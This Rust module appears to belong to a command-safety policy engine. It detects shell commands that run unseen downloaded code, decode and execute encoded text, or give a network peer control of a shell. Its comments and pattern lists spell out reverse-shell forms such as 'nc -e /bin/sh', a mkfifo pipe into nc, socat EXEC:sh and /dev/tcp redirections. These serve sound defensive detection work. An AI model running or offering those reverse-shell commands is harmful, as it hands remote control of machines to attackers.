//! Code that nobody has read before it runs: downloads, and encoded text.

use crate::policy::commands::scope::resolve;
use crate::policy::commands::{
    Field, Found, Obstacle, UNKNOWN, base_name, is_interpreter, is_shell, only_checks,
};
use crate::policy::decision::{Danger, Effect};

/// Functions that run their argument as code or as a command line.
const RUNNERS: [&str; 11] = [
    "system",
    "exec",
    "eval",
    "`",
    "qx",
    "popen",
    "subprocess.run",
    "subprocess.call",
    "check_output",
    "execSync",
    "passthru",
];

/// Expressions for the standard input, or a line of it.
const INPUTS: [&str; 13] = [
    "$_",
    "<>",
    "<STDIN>",
    "stdin",
    "STDIN",
    "$stdin",
    "$<",
    "ARGF",
    "gets",
    "input(",
    "readFileSync(0",
    "readFileSync(\"/dev/stdin",
    "file_get_contents(\"php://stdin",
];

pub(super) fn find(command: &Found) -> Option<Danger> {
    let runs_unseen = || Some(Danger::new(Effect::Download, "run a download that nobody has seen"));
    let is_code = command.obstacles.iter().any(|obstacle| matches!(obstacle, Obstacle::UnknownCode(_)));
    if is_code && command.input.is_downloaded {
        return runs_unseen();
    }
    if only_checks(command.base_name().unwrap_or_default(), &command.words) {
        return None;
    }
    if is_code && command.input.is_disguised {
        return Some(Danger::new(Effect::Download, "run text that was made unreadable"));
    }
    // The name of the command is the output of a download, as in `$(curl …)`.
    if command.words.first().is_some_and(|field| field.is_downloaded) {
        return runs_unseen();
    }
    let name = command.base_name()?;
    if runs_file(command, name) {
        return runs_unseen();
    }
    let reads_code = reads_code(name, command);
    if reads_code && command.input.is_downloaded {
        return runs_unseen();
    }
    let is_remote = is_shell(name)
        && command.redirections.iter().any(|redirect| {
            ["/dev/tcp/", "/dev/udp/"].iter().any(|network| redirect.target.text.starts_with(network))
        });
    if is_remote || gives_shell_away(name, &command.words) {
        return Some(Danger::new(Effect::Download, "let another machine control a shell"));
    }
    if reads_code && command.input.is_disguised && command.input.text.is_none() {
        return Some(Danger::new(Effect::Download, "run text that was made unreadable"));
    }
    if is_interpreter(name) && command.words.iter().skip(1).any(|field| runs_decoded(&field.text)) {
        return Some(Danger::new(Effect::Download, "run text that was made unreadable"));
    }
    let is_deno = matches!(name, "deno" | "bun")
        && command
            .words
            .iter()
            .any(|field| field.text.starts_with("http://") || field.text.starts_with("https://"))
        && command.words.iter().any(|field| field.text == "run" || field.text == "eval");
    let has_code = is_interpreter(name) && has_downloaded_code(&command.words);
    let runs_input = command.input.is_downloaded
        && is_interpreter(name)
        && command.words.iter().skip(1).any(|field| runs_input(&field.text));
    if is_deno || has_code || runs_input { runs_unseen() } else { None }
}

/// Returns whether a program runs its standard input as code.
pub(super) fn reads_code(name: &str, command: &Found) -> bool {
    let operands: Vec<&str> = command
        .words
        .iter()
        .skip(1)
        .map(|field| field.text.as_str())
        .filter(|text| !text.starts_with('-') || *text == "-")
        .skip_while(|text| matches!(name, "deno" | "bun") && *text == "run")
        .collect();
    let has_flag = |flags: &[&str]| command.words.iter().any(|field| flags.contains(&field.text.as_str()));
    if is_shell(name) {
        let has_code = command.words.iter().skip(1).any(|field| {
            field.text.starts_with('-') && !field.text.starts_with("--") && field.text.contains('c')
        });
        let reads = operands.is_empty()
            || operands[0] == "-"
            || operands[0].starts_with("/dev/stdin")
            || operands[0] == "/dev/fd/0"
            || command.words.iter().any(|field| {
                field.text.starts_with('-') && !field.text.starts_with("--") && field.text.contains('s')
            });
        return reads
            && !has_code
            && !has_flag(&["--version", "--help"])
            && !(matches!(name, "fish" | "csh" | "tcsh") && has_flag(&["-n"]));
    }
    match name {
        "source" | "." => operands
            .first()
            .is_some_and(|path| path.starts_with("/dev/stdin") || *path == "/dev/fd/0" || *path == "-"),
        "at" | "batch" | "crontab" | "parallel" => true,
        name if reads_program_file(name) => {
            let is_input = |file: &str| matches!(file, "-" | "/dev/stdin" | "/dev/fd/0");
            program_files(&command.words).into_iter().any(is_input)
        }
        "irb" | "iex" | "julia" | "ghci" | "erl" | "expect" | "R" => {
            operands.is_empty() && !has_flag(&["-e", "--eval", "--version"]) || operands.first() == Some(&"-")
        }
        "xargs" => false,
        "python" | "python2" | "python3" | "perl" | "ruby" | "node" | "nodejs" | "php" | "lua" | "deno"
        | "bun" | "osascript" | "tclsh" | "Rscript" | "ts-node" | "tsx" => {
            let has_code = has_flag(&["-c", "-e", "-m", "--eval", "-p", "--print", "-r", "--version", "-V"])
                || command.words.iter().any(|field| {
                    field.text.starts_with("-n")
                        || field.text.starts_with("-p")
                        || field.text.starts_with("-l")
                        || field.text.starts_with("-a")
                });
            (operands.is_empty() || operands[0] == "-" || operands[0] == "/dev/stdin") && !has_code
        }
        _ => false,
    }
}

/// Returns whether a command runs a file that the command line has downloaded.
fn runs_file(command: &Found, name: &str) -> bool {
    if command.downloads.is_empty() {
        return false;
    }
    let is_known = |text: &str| {
        if text.contains(UNKNOWN) {
            return command.downloads.iter().any(|file| file == text);
        }
        let path = resolve(command.directory.as_deref().or(Some("/?")), text);
        path.is_some_and(|path| command.downloads.contains(&path))
    };
    if reads_program_file(name) {
        let is_make = name.ends_with("make");
        let named = program_files(&command.words);
        let has_name = !named.is_empty();
        return named.into_iter().any(is_known)
            || is_make && !has_name && ["Makefile", "makefile", "GNUmakefile"].into_iter().any(is_known);
    }
    if command.words.first().is_some_and(|field| field.text.contains('/') && is_known(&field.text)) {
        return true;
    }
    let is_runner = is_shell(name)
        || matches!(
            base_name(name),
            "source"
                | "."
                | "python"
                | "python3"
                | "perl"
                | "ruby"
                | "node"
                | "php"
                | "lua"
                | "deno"
                | "bun"
                | "java"
        );
    is_runner
        && command
            .words
            .iter()
            .skip(1)
            .find(|field| !field.text.starts_with('-'))
            .is_some_and(|field| is_known(&field.text))
}

/// Returns whether the option `-f` of a program names a file with the commands that it runs.
fn reads_program_file(name: &str) -> bool {
    matches!(name, "make" | "gmake" | "awk" | "gawk" | "mawk" | "nawk" | "sed" | "gsed")
}

/// Returns the files of `-f file`, `-ffile`, `--file=file` and `--makefile file`.
fn program_files(words: &[Field]) -> Vec<&str> {
    let files = words.iter().enumerate().skip(1).filter_map(|(at, field)| {
        let next = || words.get(at + 1).map(|field| field.text.as_str());
        let value = match field.text.strip_prefix("--") {
            Some(long) => {
                let (name, value) =
                    long.split_once('=').map_or((long, None), |(name, value)| (name, Some(value)));
                let is_named =
                    name.len() > 1 && ["file", "makefile"].iter().any(|option| option.starts_with(name));
                return if is_named { value.or_else(next) } else { None };
            }
            None => field.text.strip_prefix('-')?.split_once('f')?.1,
        };
        if value.is_empty() { next() } else { Some(value) }
    });
    files.collect()
}

/// Returns whether a shell and a program of the network are joined by a named pipe: `mkfifo p; sh < p | nc host 1 > p`.
pub(super) fn joins_shell_and_network(commands: &[Found]) -> bool {
    let path =
        |field: &Field, command: &Found| resolve(command.directory.as_deref().or(Some("/?")), &field.text);
    let pipes: Vec<String> = commands
        .iter()
        .filter(|command| matches!(command.base_name(), Some("mkfifo" | "mknod")))
        .flat_map(|command| command.words.iter().skip(1).filter_map(|field| path(field, command)))
        .collect();
    if pipes.is_empty() {
        return false;
    }
    let is_pipe =
        |field: &Field, command: &Found| path(field, command).is_some_and(|path| pipes.contains(&path));
    let is_fed = commands.iter().any(|command| {
        let gets_download =
            command.input.is_downloaded || command.base_name().is_some_and(is_network_program);
        let mut targets = command.redirections.iter().map(|redirect| &redirect.target);
        let is_tee = command.base_name() == Some("tee");
        gets_download
            && (targets.any(|target| is_pipe(target, command))
                || is_tee && command.words.iter().any(|field| is_pipe(field, command)))
    });
    let is_controlled = |command: &Found| {
        let name = command.base_name().unwrap_or_default();
        let reads_pipe = command.redirections.iter().any(|redirect| is_pipe(&redirect.target, command));
        (command.input.is_given || reads_pipe) && is_shell(name) && reads_code(name, command)
    };
    is_fed && commands.iter().any(is_controlled)
}

fn is_network_program(name: &str) -> bool {
    matches!(name, "nc" | "ncat" | "netcat" | "socat" | "telnet" | "openssl" | "curl")
}

/// Returns whether a program of the network hands its connection to a shell: `nc -e /bin/sh`, `socat TCP:host:1 EXEC:sh`.
fn gives_shell_away(name: &str, words: &[Field]) -> bool {
    let names_shell = |text: &str| {
        let program = text.split([' ', ',']).next().unwrap_or(text);
        is_shell(base_name(program))
    };
    match name {
        "nc" | "ncat" | "netcat" => words.windows(2).any(|pair| {
            let option = pair[0].text.as_str();
            let runs = matches!(option, "--exec" | "--sh-exec")
                || option.starts_with('-') && !option.starts_with("--") && option.ends_with(['e', 'c']);
            runs && names_shell(&pair[1].text)
        }),
        "socat" => {
            let kinds: Vec<(String, &str)> = words[1..]
                .iter()
                .filter_map(|field| field.text.split_once(':'))
                .map(|(kind, rest)| (kind.to_ascii_uppercase(), rest))
                .collect();
            let is_network = |kind: &str| {
                ["TCP", "UDP", "OPENSSL", "SSL", "SCTP", "SOCKS", "PROXY"]
                    .iter()
                    .any(|network| kind.starts_with(network))
            };
            kinds.iter().any(|(kind, _)| is_network(kind))
                && kinds.iter().any(|(kind, rest)| {
                    matches!(kind.as_str(), "EXEC" | "SYSTEM" | "SHELL") && names_shell(rest)
                })
        }
        _ => false,
    }
}

/// Returns whether code of an interpreter decodes a text and runs it.
fn runs_decoded(code: &str) -> bool {
    let decodes =
        ["b64decode", "a85decode", "unhexlify", "bytes.fromhex", "atob(", "'base64')", "\"base64\")"];
    let runs = ["exec(", "eval(", "os.system(", "execSync("];
    decodes.iter().any(|text| code.contains(text)) && runs.iter().any(|text| code.contains(text))
}

/// Returns whether code of an interpreter runs what it reads: `system $_`, `exec(sys.stdin.read())`.
fn runs_input(code: &str) -> bool {
    let is_input = |rest: &str| {
        let rest = rest.trim_start_matches([' ', '(', '"', '\'']);
        let rest = ["require(\"fs\").", "require('fs').", "fs.", "sys."]
            .iter()
            .find_map(|module| rest.strip_prefix(module))
            .unwrap_or(rest);
        INPUTS.iter().any(|input| rest.starts_with(input))
    };
    // `for line in sys.stdin: os.system(line)`
    let is_variable = |rest: &str, name: &str| {
        let argument = rest.trim_start_matches([' ', '(', '"', '\'']);
        let behind = argument.strip_prefix(name);
        behind.is_some_and(|behind| !behind.starts_with(|char: char| char.is_alphanumeric() || char == '_'))
    };
    let runs =
        |test: &dyn Fn(&str) -> bool| RUNNERS.iter().any(|runner| code.split(runner).skip(1).any(test));
    runs(&is_input)
        || INPUTS.iter().flat_map(|input| code.match_indices(input)).any(|(at, _)| {
            let name = variable_before(&code[..at]);
            !name.is_empty() && runs(&|rest| is_variable(rest, name))
        })
}

/// Returns the variable that takes what is read behind a text: `for line in sys.`, `my $line = `, `foreach my $line (`.
fn variable_before(text: &str) -> &str {
    let text = text.trim_end_matches("sys.").trim_end_matches(['(', ' ', '=']);
    let text = text.strip_suffix(" in").unwrap_or(text);
    text.rsplit(|char: char| !(char.is_alphanumeric() || matches!(char, '_' | '$'))).next().unwrap_or(text)
}

/// Returns whether code on the command line of an interpreter comes from a download.
fn has_downloaded_code(words: &[Field]) -> bool {
    let mut is_code = false;
    for field in words.iter().skip(1) {
        if is_code && field.is_downloaded {
            return true;
        }
        is_code = matches!(field.text.as_str(), "-c" | "-e" | "--eval" | "-r" | "-p" | "-E");
        // A script from a process substitution: `python <(curl …)`.
        if field.is_downloaded && field.text.starts_with("/dev/fd/") {
            return true;
        }
        let fetches = field.text.contains("urlopen")
            || field.text.contains("requests.get")
            || field.text.contains("urllib")
            || field.text.contains("fetch(")
            || field.text.contains("https.get")
            || field.text.contains("open-uri")
            || field.text.contains("LWP::Simple")
            || field.text.contains("Net::HTTP")
            || field.text.contains("file_get_contents('http")
            || field.text.contains("file_get_contents(\"http");
        let runs = field.text.contains("exec(")
            || field.text.contains("eval(")
            || field.text.contains("eval ")
            || field.text.contains("os.system")
            || field.text.contains("subprocess");
        if fetches && runs {
            return true;
        }
    }
    false
}
